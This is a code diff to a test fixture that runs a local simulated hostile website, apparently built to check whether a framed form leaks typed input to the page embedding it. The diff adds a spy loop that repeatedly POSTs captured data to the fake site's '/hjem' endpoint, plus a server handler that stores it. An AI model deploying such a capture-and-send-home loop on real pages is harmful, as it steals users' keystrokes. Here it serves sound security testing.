@@ -4,12 +4,15 @@
  */
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { json } from 'node:stream/consumers';
 
 export interface HostileSite {
   /** The page with the form in a frame. */
   readonly framing: string;
   /** The page with a field of its own in a closed shadow root: what a form drawn by a script would be. */
   readonly control: string;
+  /** What the page that is open, or was last, has told its owner so far. */
+  toldHome(): Learnt;
   stop(): Promise<void>;
 }
 
@@ -75,6 +78,7 @@ function spy(): void {
     }
     frame?.contentWindow?.postMessage({ type: 'focus' }, '*');
   }, 50);
+  setInterval(() => void fetch('/hjem', { method: 'POST', body: JSON.stringify(learnt) }), 100);
 }
 
 const html = (body: string): string =>
@@ -87,10 +91,18 @@ export async function hostileSite(form: string): Promise<HostileSite> {
       `<iframe title="Skjema" src="${form}" width="380" height="1500" allow="clipboard-read; clipboard-write"></iframe>`,
     ),
     '/egen': html(`<div id="own"></div><script>
-      document.getElementById('own').attachShadow({ mode: 'closed' }).innerHTML = '<textarea autofocus></textarea>';
+      document.getElementById('own').attachShadow({ mode: 'closed' }).innerHTML = '<textarea autofocus style="box-sizing: border-box; width: 100%; height: 8em"></textarea>';
     </script>`),
   };
+  let told: Learnt = { characters: '', others: [] };
   const server = createServer((request, response) => {
+    if (request.method === 'POST') {
+      void json(request).then((learnt) => {
+        told = learnt as Learnt;
+        response.writeHead(204).end();
+      });
+      return;
+    }
     const page = pages[request.url ?? ''];
     response.writeHead(page === undefined ? 404 : 200, { 'Content-Type': 'text/html; charset=utf-8' });
     response.end(page);
@@ -100,6 +112,7 @@ export async function hostileSite(form: string): Promise<HostileSite> {
   return {
     framing: `${origin}/ramme`,
     control: `${origin}/egen`,
+    toldHome: () => told,
     stop: () =>
       new Promise((done) => {
         server.close(() => done());
